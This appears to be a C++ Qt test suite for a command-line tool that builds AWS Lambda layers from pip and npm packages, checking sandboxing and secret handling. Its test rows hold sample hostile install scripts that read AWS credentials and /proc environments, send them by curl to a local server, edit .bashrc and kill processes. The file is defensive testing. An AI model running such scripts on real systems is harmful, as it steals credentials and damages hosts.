// SPDX-FileCopyrightText: 2026 The Lathe developers
// SPDX-License-Identifier: GPL-3.0-or-later
// Libraries of layers: private indexes whose secrets are seen nowhere, packages whose install scripts reach nothing, lists of every form, an end in
// the midst, and folders with what no layer can hold. Every test runs the real executable with the real pip and npm.
#include <QDir>
#include <QDirIterator>
#include <QElapsedTimer>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>
#include <csignal>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static const QByteArray secret = "s3cr3t-of-the-index";

class TestCliLayerInstall : public QObject
{
    Q_OBJECT

    std::unique_ptr<QTemporaryDir> m_dir;
    QProcess m_server;
    QString m_port;
    int m_code = -1;
    QByteArray m_out;

    QString at(const QString &name) const { return m_dir->filePath(name); }
    void write(const QString &name, const QByteArray &bytes) const
    {
        QVERIFY(QDir().mkpath(QFileInfo(at(name)).path()));
        QFile file(at(name));
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size());
    }
    QByteArray read(const QString &name) const
    {
        QFile file(at(name));
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
    }
    QProcessEnvironment environment() const
    {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        for (const QString &name : env.keys())
            if (name.startsWith(QLatin1String("PIP_")) || name.startsWith(QLatin1String("npm_")))
                env.remove(name);
        env.insert(QStringLiteral("XDG_CACHE_HOME"), at(QStringLiteral("cache")));
        env.insert(QStringLiteral("HOME"), at(QStringLiteral("home")));
        env.insert(QStringLiteral("PIP_INDEX_URL"), QStringLiteral("http://user:%1@127.0.0.1:%2/simple").arg(QString::fromLatin1(secret), m_port));
        env.insert(QStringLiteral("TOKEN"), QString::fromLatin1(secret));
        env.insert(QStringLiteral("AWS_SECRET_ACCESS_KEY"), QStringLiteral("never-read-this"));
        return env;
    }
    void begin(QProcess &p, const QString &line) const
    {
        p.setProcessEnvironment(environment());
        p.setProcessChannelMode(QProcess::MergedChannels);
        p.setWorkingDirectory(at(QStringLiteral("project")));
        p.start(QStringLiteral(LATHE_BIN_DIR "/lathe"), line.split(u' '));
        p.closeWriteChannel();
    }
    void run(const QString &line)
    {
        QProcess p;
        begin(p, line);
        m_code = p.waitForFinished(120000) && p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
        m_out = p.readAll();
    }
    QByteArray told() const { return "exit " + QByteArray::number(m_code) + "\n" + m_out; }
    /// A wheel with one module NAME.py.
    void makeWheel(const QString &name, const QByteArray &requires_ = {}) const
    {
        QProcess p;
        QDir().mkpath(at(QStringLiteral("index/pip/") + name));
        p.start(QStringLiteral("python3"), {QStringLiteral("-c"), QStringLiteral("import sys,zipfile\nn=sys.argv[2]\nz=zipfile.ZipFile(sys.argv[1],'w')\nz.writestr(n+'.py','X=1\\n')\n"
                                                                                 "z.writestr(n+'-1.0.dist-info/METADATA','Metadata-Version: 2.1\\nName: '+n+'\\nVersion: 1.0\\n'+sys.argv[3])\n"
                                                                                 "z.writestr(n+'-1.0.dist-info/WHEEL','Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\nz.writestr(n+'-1.0.dist-info/RECORD','')\n"
                                                                                 "z.close()\nimport hashlib\nprint(hashlib.sha256(open(sys.argv[1],'rb').read()).hexdigest())"),
                                             at(QStringLiteral("index/pip/%1/%1-1.0-py3-none-any.whl").arg(name)), name, QString::fromUtf8(requires_)});
        QVERIFY(p.waitForFinished(30000) && p.exitCode() == 0);
        QFile hash(at(QStringLiteral("index/%1.hash").arg(name)));
        QVERIFY(hash.open(QIODevice::WriteOnly));
        hash.write(p.readAll().trimmed());
    }
    /// Whether the secret stands in a file below the test's folder where it must not: layers, caches, records.
    QString leaked() const
    {
        for (const QString &dir : {QStringLiteral("project/layers"), QStringLiteral("cache")})
            for (QDirIterator it(at(dir), QDir::Files | QDir::Hidden, QDirIterator::Subdirectories); it.hasNext();)
                if (QFile file(it.next()); file.open(QIODevice::ReadOnly) && file.readAll().contains(secret))
                    return file.fileName();
        return {};
    }
    QStringList leftOvers() const { return QDir(at(QStringLiteral("cache/lathe/layer-builds"))).entryList({QStringLiteral(".build-*")}, QDir::Dirs | QDir::Hidden); }

private slots:
    void init()
    {
        m_dir = std::make_unique<QTemporaryDir>();
        write(QStringLiteral("project/lambda_function.py"), "def lambda_handler(event, context):\n    return 1\n");
        write(QStringLiteral("home/.aws/credentials"), "[default]\naws_secret_access_key = never-read-this\n");
        QDir().mkpath(at(QStringLiteral("index/pip")));
        m_server.start(QStringLiteral("python3"), {QStringLiteral(LATHE_SOURCE_DIR "/tests/cli/registry.py"), at(QStringLiteral("index")), QString::fromLatin1(secret)});
        QVERIFY(m_server.waitForReadyRead(30000));
        m_port = QString::fromLatin1(m_server.readLine().trimmed());
    }
    void cleanup()
    {
        m_server.kill();
        m_server.waitForFinished();
    }

    void privateIndexes()
    {
        makeWheel(QStringLiteral("plain"));
        write(QStringLiteral("project/requirements.txt"), "plain==1.0\n");
        run(QStringLiteral("layer build requirements.txt --name one --runtime python3.11 --verbose"));
        QVERIFY2(m_code == 0 && QFile::exists(at(QStringLiteral("project/layers/one/python/plain.py"))), told());
        QVERIFY2(!m_out.contains(secret), told());
        write(QStringLiteral("project/requirements.txt"), "plain==1.0\nabsent==3\n");
        run(QStringLiteral("layer build requirements.txt --name two --runtime python3.11 --verbose"));
        QVERIFY2(m_code != 0 && m_out.contains("LTH-LYR-012") && m_out.contains("absent") && !m_out.contains(secret), told());

        write(QStringLiteral("index/npm/quiet/package/package.json"), "{\"name\":\"quiet\",\"version\":\"1.0.0\",\"main\":\"i.js\"}");
        write(QStringLiteral("index/npm/quiet/package/i.js"), "module.exports = 1\n");
        write(QStringLiteral("project/js/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"quiet\":\"1.0.0\"}}");
        write(QStringLiteral("project/js/.npmrc"), "registry=http://127.0.0.1:" + m_port.toUtf8() + "/npm/\n//127.0.0.1:" + m_port.toUtf8() + "/npm/:_authToken=${TOKEN}\n");
        run(QStringLiteral("layer build js/package.json --name js --runtime nodejs20.x --verbose"));
        QVERIFY2(m_code == 0 && QFile::exists(at(QStringLiteral("project/layers/js/nodejs/node_modules/quiet/i.js"))), told());
        QVERIFY2(!m_out.contains(secret), told());
        QCOMPARE(leaked(), QString());
        QCOMPARE(read(QStringLiteral("index/leaks")), QByteArray());
        QCOMPARE(leftOvers(), QStringList());
    }

    /// Ten packages that try what such packages try. Without leave none of it runs; with it, it runs and reaches nothing.
    void hostilePackages_data()
    {
        QTest::addColumn<QByteArray>("script");
        QTest::newRow("writes to the project") << QByteArray("touch DIR/project/pwned");
        QTest::newRow("writes to the home folder") << QByteArray("touch DIR/home/pwned; echo x >> DIR/home/.bashrc");
        QTest::newRow("reads credentials") << QByteArray("cat DIR/home/.aws/credentials > stolen || exit 0; CURL/seen/credentials");
        QTest::newRow("reads the project") << QByteArray("cat DIR/project/lambda_function.py > stolen && CURL/seen/sources; exit 0");
        QTest::newRow("replaces the cache") << QByteArray("for d in DIR/cache/lathe/layer-builds; do rm -rf $d && mkdir $d && touch $d/pwned; done; exit 0");
        QTest::newRow("leaves a process") << QByteArray("(setsid sleep 987654 >/dev/null 2>&1 </dev/null &) ; exit 0");
        QTest::newRow("changes the system") << QByteArray("touch /usr/lib/pwned-lathe /etc/pwned-lathe /usr/local/bin/pwned-lathe; exit 0");
        QTest::newRow("ends other processes") << QByteArray("kill -9 PID; exit 0");
        QTest::newRow("leads out by links") << QByteArray("ln -s DIR/home/.aws/credentials stolen; ln -s ../../../../../../../../etc/passwd passwd; exit 0");
        QTest::newRow("reads other processes") << QByteArray("grep -a -l never-read-thi[s] /proc/*/environ /proc/*/root/home 2>/dev/null && CURL/seen/environ; exit 0");
    }
    void hostilePackages()
    {
        QFETCH(QByteArray, script);
        script.replace("DIR", QFile::encodeName(m_dir->path())).replace("PID", QByteArray::number(m_server.processId()));
        script.replace("CURL", "curl -s http://127.0.0.1:" + m_port.toUtf8());
        write(QStringLiteral("index/npm/evil/package/package.json"), "{\"name\":\"evil\",\"version\":\"1.0.0\",\"main\":\"i.js\",\"hasInstallScript\":true,\"scripts\":{\"postinstall\":\"sh run.sh\"}}");
        write(QStringLiteral("index/npm/evil/package/i.js"), "module.exports = 1\n");
        write(QStringLiteral("index/npm/evil/package/run.sh"), "touch ran\n" + script + "\nexit 0\n");
        write(QStringLiteral("project/js/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"evil\":\"1.0.0\"}}");
        write(QStringLiteral("project/js/.npmrc"), "registry=http://127.0.0.1:" + m_port.toUtf8() + "/npm/\n//127.0.0.1:" + m_port.toUtf8() + "/npm/:_authToken=${TOKEN}\n");
        const QStringList before = entriesBelow({QStringLiteral("project"), QStringLiteral("home")});
        if (script.startsWith("touch")) { // one is enough
            run(QStringLiteral("layer build js/package.json --name js --runtime nodejs20.x"));
            QVERIFY2(m_code == 0, told());
            QVERIFY2(!QFile::exists(at(QStringLiteral("project/layers/js/nodejs/node_modules/evil/ran"))), "the script ran without leave");
            QVERIFY(QDir(at(QStringLiteral("project/layers"))).removeRecursively());
        }
        run(QStringLiteral("layer build js/package.json --name js --runtime nodejs20.x --allow-scripts --again"));
        QVERIFY2(m_code == 0, told());
        QVERIFY2(QFile::exists(at(QStringLiteral("project/layers/js/nodejs/node_modules/evil/ran"))), "the script did not run");
        QCOMPARE(entriesBelow({QStringLiteral("project"), QStringLiteral("home")}), before);
        QCOMPARE(read(QStringLiteral("index/seen")), QByteArray());
        QCOMPARE(m_server.state(), QProcess::Running);
        for (const char *path : {"/usr/lib/pwned-lathe", "/etc/pwned-lathe", "/usr/local/bin/pwned-lathe"})
            QVERIFY2(!QFile::exists(QLatin1String(path)), path);
        QVERIFY2(!processWith("987654"), "a process was left");
        QCOMPARE(leftOvers(), QStringList());
        for (QDirIterator it(at(QStringLiteral("cache")), QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot, QDirIterator::Subdirectories); it.hasNext();) {
            it.next();
            QVERIFY2(it.fileName() != u"pwned", qPrintable(it.filePath()));
            if (QFile file(it.filePath()); !it.fileInfo().isSymLink() && it.fileInfo().isFile() && file.open(QIODevice::ReadOnly))
                QVERIFY2(!file.readAll().contains("never-read-this"), qPrintable(it.filePath()));
        }
    }

    void listsOfEveryForm_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("outcome"); ///< Modules in the layer, or an error's id.
        QTest::newRow("hashes") << QByteArray("plain==1.0 \\\n    --hash=sha256:HASH\n") << QByteArray("plain");
        QTest::newRow("a wrong hash") << QByteArray("plain==1.0 --hash=sha256:" + QByteArray(64, 'a') + "\n") << QByteArray("LTH-LYR-013");
        QTest::newRow("includes") << QByteArray("-r more/base.txt\nplain\n") << QByteArray("other plain");
        QTest::newRow("constraints") << QByteArray("-c more/pins.txt\nplain\n") << QByteArray("LTH-LYR-013");
        QTest::newRow("markers") << QByteArray("plain; python_version >= '3.0'\nother; sys_platform == 'win32'\n") << QByteArray("plain");
        QTest::newRow("a comment and a variable") << QByteArray("# all\nplain # this\n--extra-index-url http://user:${TOKEN}@127.0.0.1:PORT/simple\n") << QByteArray("plain");
        QTest::newRow("editable") << QByteArray("plain\n-e .\n") << QByteArray("LTH-LYR-006");
        QTest::newRow("a repository") << QByteArray("git+https://127.0.0.1:1/x.git\n") << QByteArray("LTH-LYR-006");
        QTest::newRow("a repository with a name") << QByteArray("thing @ git+ssh://git@127.0.0.1:1/x.git@v1\n") << QByteArray("LTH-LYR-006");
        QTest::newRow("an archive of sources") << QByteArray("thing @ https://127.0.0.1:1/thing-1.tar.gz#sha256=1\n") << QByteArray("LTH-LYR-006");
        QTest::newRow("a file of sources") << QByteArray("./thing-1.0.tar.gz\n") << QByteArray("LTH-LYR-006");
        QTest::newRow("no network") << QByteArray("--index-url http://127.0.0.1:1/simple\nplain\n") << QByteArray("LTH-LYR-013");
    }
    void listsOfEveryForm()
    {
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, outcome);
        makeWheel(QStringLiteral("plain"));
        makeWheel(QStringLiteral("other"));
        write(QStringLiteral("project/more/base.txt"), "other==1.0\n");
        write(QStringLiteral("project/more/pins.txt"), "plain==7.0\n");
        write(QStringLiteral("project/requirements.txt"), text.replace("HASH", read(QStringLiteral("index/plain.hash"))).replace("PORT", m_port.toUtf8()));
        run(QStringLiteral("layer build requirements.txt --name one --runtime python3.11"));
        QVERIFY2(!m_out.contains(secret), told());
        if (outcome.startsWith("LTH")) {
            QVERIFY2(m_code != 0 && m_out.contains(outcome), told());
            QVERIFY(!QFile::exists(at(QStringLiteral("project/layers/one"))));
        } else {
            QVERIFY2(m_code == 0, told());
            QCOMPARE(QDir(at(QStringLiteral("project/layers/one/python"))).entryList({QStringLiteral("*.py")}).join(u' ').remove(QStringLiteral(".py")).toUtf8(), outcome);
        }
        QCOMPARE(leftOvers(), QStringList());
    }

    /// What a library, not the list, names by an address of its own: sources are refused by name and none of their code runs, a wheel is told.
    void librariesThatNameAddresses_data()
    {
        QTest::addColumn<QByteArray>("asked");
        QTest::addColumn<QByteArray>("outcome");
        QTest::newRow("sources") << QByteArray("evil @ http://127.0.0.1:PORT/files/evil/evil-1.0.tar.gz") << QByteArray("LTH-LYR-006");
        QTest::newRow("sources that bring their own build") << QByteArray("evil @ http://127.0.0.1:PORT/files/evil/own-1.0.tar.gz") << QByteArray("LTH-LYR-006");
        QTest::newRow("a repository") << QByteArray("evil @ git+http://127.0.0.1:PORT/seen/evil.git") << QByteArray("LTH-LYR-006");
        QTest::newRow("a wheel") << QByteArray("other @ http://127.0.0.1:PORT/files/other/other-1.0-py3-none-any.whl") << QByteArray("name others by an address");
    }
    void librariesThatNameAddresses()
    {
        QFETCH(QByteArray, asked);
        QFETCH(QByteArray, outcome);
        const QByteArray run = "import os, urllib.request\nopen('/tmp/ran', 'w')\nurllib.request.urlopen('http://127.0.0.1:" + m_port.toUtf8() + "/seen/ran')\n";
        write(QStringLiteral("src/evil-1.0/setup.py"), run + "from setuptools import setup\nsetup(name='evil', version='1.0')\n");
        write(QStringLiteral("src/own/own-1.0/pyproject.toml"), "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n[project]\nname = 'evil'\nversion = '1.0'\n");
        write(QStringLiteral("src/own/own-1.0/backend.py"), run);
        QVERIFY(QDir().mkpath(at(QStringLiteral("index/pip/evil"))));
        QCOMPARE(QProcess::execute(QStringLiteral("tar"), {QStringLiteral("-czf"), at(QStringLiteral("index/pip/evil/evil-1.0.tar.gz")), QStringLiteral("-C"), at(QStringLiteral("src")), QStringLiteral("evil-1.0")}), 0);
        QCOMPARE(QProcess::execute(QStringLiteral("tar"), {QStringLiteral("-czf"), at(QStringLiteral("index/pip/evil/own-1.0.tar.gz")), QStringLiteral("-C"), at(QStringLiteral("src/own")), QStringLiteral("own-1.0")}), 0);
        makeWheel(QStringLiteral("other"));
        makeWheel(QStringLiteral("plain"), "Requires-Dist: " + asked.replace("PORT", m_port.toUtf8()) + "\n");
        write(QStringLiteral("project/requirements.txt"), "plain\n");
        this->run(QStringLiteral("layer build requirements.txt --name one --runtime python3.11"));
        QVERIFY2(!m_out.contains(secret), told());
        QVERIFY2(m_out.contains(outcome), told());
        QCOMPARE(read(QStringLiteral("index/seen")), QByteArray());
        if (outcome.startsWith("LTH")) {
            QVERIFY2(m_code != 0 && m_out.contains("evil"), told());
            QVERIFY(!QFile::exists(at(QStringLiteral("project/layers/one"))));
        } else {
            QVERIFY2(m_code == 0 && QFile::exists(at(QStringLiteral("project/layers/one/python/other.py"))), told());
        }
        QCOMPARE(leftOvers(), QStringList());
    }

    /// Settings and locks of a project do not undo what is decided here, nor take the user's keys along.
    void hostileNpmProjects_data()
    {
        QTest::addColumn<QByteArray>("settings");
        QTest::addColumn<QByteArray>("dependencies");
        QTest::addColumn<QByteArray>("lock");
        QTest::addColumn<QByteArray>("outcome");
        const QByteArray evil("{\"evil\":\"1.0.0\"}"), none;
        QTest::newRow("scripts by its settings") << QByteArray("ignore-scripts=false\nscript-shell=/bin/sh\nunsafe-perm=true\n") << evil << none << QByteArray();
        QTest::newRow("git by its settings") << QByteArray("git=/bin/sh\nallow-git=all\n") << QByteArray("{\"evil\":\"1.0.0\",\"wantsgit\":\"1.0.0\"}") << none << QByteArray("LTH-LYR-032");
        QTest::newRow("a repository") << none << QByteArray("{\"x\":\"git+http://127.0.0.1:PORT/seen/x.git\"}") << none << QByteArray("LTH-LYR-032");
        QTest::newRow("a repository of a code host") << none << QByteArray("{\"x\":\"somebody/x\"}") << none << QByteArray("LTH-LYR-032");
        QTest::newRow("a repository in the lock") << none << evil << QByteArray("{\"name\":\"app\",\"version\":\"1.0.0\",\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"evil\":\"1.0.0\"}},"
            "\"node_modules/evil\":{\"version\":\"1.0.0\",\"resolved\":\"git+ssh://git@127.0.0.1:PORT/evil.git#0123456789012345678901234567890123456789\"}}}") << QByteArray("LTH-LYR-032");
        QTest::newRow("another registry in the lock") << QByteArray("//localhost:PORT/npm/:_authToken=${TOKEN}\n") << evil << QByteArray("{\"name\":\"app\",\"version\":\"1.0.0\",\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"evil\":\"1.0.0\"}},"
            "\"node_modules/evil\":{\"version\":\"1.0.0\",\"resolved\":\"http://localhost:PORT/npm/evil/-/x.tgz\"}}}") << QByteArray("localhost");
        QTest::newRow("a folder") << none << QByteArray("{\"x\":\"file:../..\"}") << none << QByteArray("LTH-LYR-016");
    }
    void hostileNpmProjects()
    {
        QFETCH(QByteArray, settings);
        QFETCH(QByteArray, dependencies);
        QFETCH(QByteArray, lock);
        QFETCH(QByteArray, outcome);
        const QByteArray port = m_port.toUtf8();
        write(QStringLiteral("index/npm/evil/package/package.json"), "{\"name\":\"evil\",\"version\":\"1.0.0\",\"hasInstallScript\":true,\"scripts\":{\"preinstall\":\"curl -s http://127.0.0.1:" + port + "/seen/a\",\"postinstall\":\"curl -s http://127.0.0.1:" + port + "/seen/b\"}}");
        write(QStringLiteral("index/npm/wantsgit/package/package.json"), "{\"name\":\"wantsgit\",\"version\":\"1.0.0\",\"dependencies\":{\"x\":\"git+http://127.0.0.1:" + port + "/seen/x.git\"}}");
        write(QStringLiteral("project/js/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":" + dependencies.replace("PORT", port) + "}");
        write(QStringLiteral("project/js/.npmrc"), "registry=http://127.0.0.1:" + port + "/npm/\n//127.0.0.1:" + port + "/npm/:_authToken=${TOKEN}\n" + settings.replace("PORT", port));
        if (!lock.isEmpty())
            write(QStringLiteral("project/js/package-lock.json"), lock.replace("PORT", port));
        run(QStringLiteral("layer build js/package.json --name js --runtime nodejs20.x"));
        QVERIFY2(m_out.contains(outcome), told());
        QVERIFY2((m_code != 0) == outcome.startsWith("LTH"), told());
        QCOMPARE(QFile::exists(at(QStringLiteral("project/layers/js/nodejs/node_modules/evil/package.json"))), m_code == 0);
        QCOMPARE(read(QStringLiteral("index/seen")), QByteArray());
        QCOMPARE(leftOvers(), QStringList());
    }

    void keysAreNotForRegistries()
    {
        write(QStringLiteral("project/js/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"quiet\":\"1.0.0\"}}");
        write(QStringLiteral("project/js/.npmrc"), "registry=http://127.0.0.1:" + m_port.toUtf8() + "/seen/npm/${AWS_SECRET_ACCESS_KEY}/\n# " + QFile::encodeName(at(QStringLiteral("home/.aws/credentials"))) + "\n");
        run(QStringLiteral("layer build js/package.json --name js --runtime nodejs20.x"));
        QVERIFY2(m_code != 0, told());
        write(QStringLiteral("project/requirements.txt"), "--index-url http://127.0.0.1:" + m_port.toUtf8() + "/seen/pip/${AWS_SECRET_ACCESS_KEY}/\nplain\n");
        run(QStringLiteral("layer build requirements.txt --name py --runtime python3.11"));
        QVERIFY2(m_code != 0, told());
        write(QStringLiteral("project/rb/Gemfile"), "# '" + QFile::encodeName(at(QStringLiteral("home/.aws/credentials"))) + "'\nrequire 'net/http'\nNet::HTTP.get(URI('http://127.0.0.1:" + m_port.toUtf8() + "/seen/rb-' + (File.read('"
            + QFile::encodeName(at(QStringLiteral("home/.aws/credentials"))) + "') rescue 'nothing').split.last))\n");
        run(QStringLiteral("layer build rb/Gemfile --name rb --runtime ruby3.3"));
        const QByteArray seen = read(QStringLiteral("index/seen"));
        QVERIFY2(seen.contains("/seen/rb-nothing"), (told() + seen).constData());
        QVERIFY2(!seen.contains("never-read-this"), seen.constData());
    }

    /// A process that a script leaves behind keeps the output open: the end of npm is the end, and the process goes with it.
    void whatKeepsTheOutputOpenIsNotWaitedFor()
    {
        write(QStringLiteral("index/npm/evil/package/package.json"), "{\"name\":\"evil\",\"version\":\"1.0.0\",\"hasInstallScript\":true,\"scripts\":{\"postinstall\":\"setsid sleep 765432 & sh -c 'trap : TERM HUP; sleep 765432' & exit 0\"}}");
        write(QStringLiteral("project/js/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"evil\":\"1.0.0\"}}");
        write(QStringLiteral("project/js/.npmrc"), "foreground-scripts=true\nregistry=http://127.0.0.1:" + m_port.toUtf8() + "/npm/\n//127.0.0.1:" + m_port.toUtf8() + "/npm/:_authToken=${TOKEN}\n");
        QElapsedTimer timer;
        timer.start();
        run(QStringLiteral("layer build js/package.json --name js --runtime nodejs20.x --allow-scripts"));
        QVERIFY2(m_code == 0, told());
        QVERIFY2(timer.elapsed() < 60000, told());
        QVERIFY2(!processWith("765432"), "a process was left");
    }

    void endedInTheMidst()
    {
        write(QStringLiteral("index/npm/slow/package/package.json"), "{\"name\":\"slow\",\"version\":\"1.0.0\",\"hasInstallScript\":true,\"scripts\":{\"postinstall\":\"curl -s http://127.0.0.1:" + m_port.toUtf8() + "/seen/begun; sleep 876543\"}}");
        write(QStringLiteral("project/js/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"slow\":\"1.0.0\"}}");
        write(QStringLiteral("project/js/.npmrc"), "registry=http://127.0.0.1:" + m_port.toUtf8() + "/npm/\n//127.0.0.1:" + m_port.toUtf8() + "/npm/:_authToken=${TOKEN}\n");
        for (const int signal : {SIGINT, SIGTERM, SIGKILL}) {
            QFile::remove(at(QStringLiteral("index/seen")));
            QProcess p;
            begin(p, QStringLiteral("layer build js/package.json --name js --runtime nodejs20.x --allow-scripts"));
            QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(at(QStringLiteral("index/seen"))), 60000);
            ::kill(pid_t(p.processId()), signal);
            QVERIFY2(p.waitForFinished(20000), "it did not end");
            if (signal != SIGKILL) {
                QCOMPARE(p.exitCode(), 130);
                QCOMPARE(leftOvers(), QStringList());
            }
            QVERIFY(!QFile::exists(at(QStringLiteral("project/layers/js"))));
            QTRY_VERIFY_WITH_TIMEOUT(!processWith("876543"), 10000);
        }
        makeWheel(QStringLiteral("plain"));
        write(QStringLiteral("project/requirements.txt"), "plain\n");
        run(QStringLiteral("layer build requirements.txt --name one --runtime python3.11")); // the next build sweeps what was killed
        QVERIFY2(m_code == 0, told());
        QCOMPARE(leftOvers(), QStringList());
    }

    /// Pipes, sockets and links without an end are left out, or named; nothing waits for them.
    void whatNoLayerCanHold()
    {
        write(QStringLiteral("in/python/pkg/__init__.py"), "X = 1\n");
        const QByteArray in = QFile::encodeName(at(QStringLiteral("in/python")));
        for (const char *name : {"/pipe", "/pkg/pipe", "/pipe.py", "/libpipe.so"})
            QCOMPARE(::mkfifo((in + name).constData(), 0644), 0);
        const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
        sockaddr_un address = {};
        address.sun_family = AF_UNIX;
        qstrncpy(address.sun_path, (in + "/s").constData(), sizeof address.sun_path);
        QCOMPARE(::bind(fd, reinterpret_cast<sockaddr *>(&address), sizeof address), 0);
        ::close(fd);
        QCOMPARE(::symlink("round", (in + "/round").constData()), 0);
        QCOMPARE(::symlink(".", (in + "/pkg/here").constData()), 0);
        QCOMPARE(::symlink("/nowhere/at/all", (in + "/gone").constData()), 0);
        QElapsedTimer timer;
        timer.start();
        run(QStringLiteral("layer build ../in --name one --runtime python3.11"));
        QVERIFY2(m_code == 0, told());
        QVERIFY(timer.elapsed() < 60000);
        QVERIFY2(m_out.contains("pipe") && m_out.contains("is left out"), told());
        QVERIFY(QFile::exists(at(QStringLiteral("project/layers/one/python/pkg/__init__.py"))));
        QCOMPARE(QFileInfo(at(QStringLiteral("project/layers/one/python/pkg/here"))).symLinkTarget(), at(QStringLiteral("project/layers/one/python/pkg")));

        for (const QByteArray &name : {QByteArray("new\nline.py"), QByteArray("esc\x1b[31m.py"), QByteArray("bad\xff.py"), QByteArray("back\\slash.py")}) {
            QFile file;
            FILE *raw = ::fopen((in + "/pkg/" + name).constData(), "w");
            QVERIFY(raw && ::fclose(raw) == 0);
            run(QStringLiteral("layer build ../in --name two --runtime python3.11"));
            QVERIFY2(m_code != 0 && m_out.contains("LTH-LYR-029"), told());
            QVERIFY2(!m_out.contains('\x1b'), told());
            QVERIFY(::unlink((in + "/pkg/" + name).constData()) == 0);
        }
        QCOMPARE(leftOvers(), QStringList());
    }

private:
    QStringList entriesBelow(const QStringList &dirs) const
    {
        QStringList list;
        for (const QString &dir : dirs)
            for (QDirIterator it(at(dir), QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot, QDirIterator::Subdirectories); it.hasNext();)
                if (const QString path = it.next(); !path.contains(QLatin1String("/layers")))
                    list << path + u' ' + QString::number(it.fileInfo().size() * !it.fileInfo().isDir());
        list.sort();
        return list;
    }
    static bool processWith(const char *word)
    {
        for (const QString &pid : QDir(QStringLiteral("/proc")).entryList(QDir::Dirs))
            if (QFile file(QStringLiteral("/proc/%1/cmdline").arg(pid)); file.open(QIODevice::ReadOnly) && file.readAll().replace('\0', ' ').contains(QByteArray("sleep ") + word))
                return true;
        return false;
    }
};

QTEST_GUILESS_MAIN(TestCliLayerInstall)
#include "tst_clilayerinstall.moc"
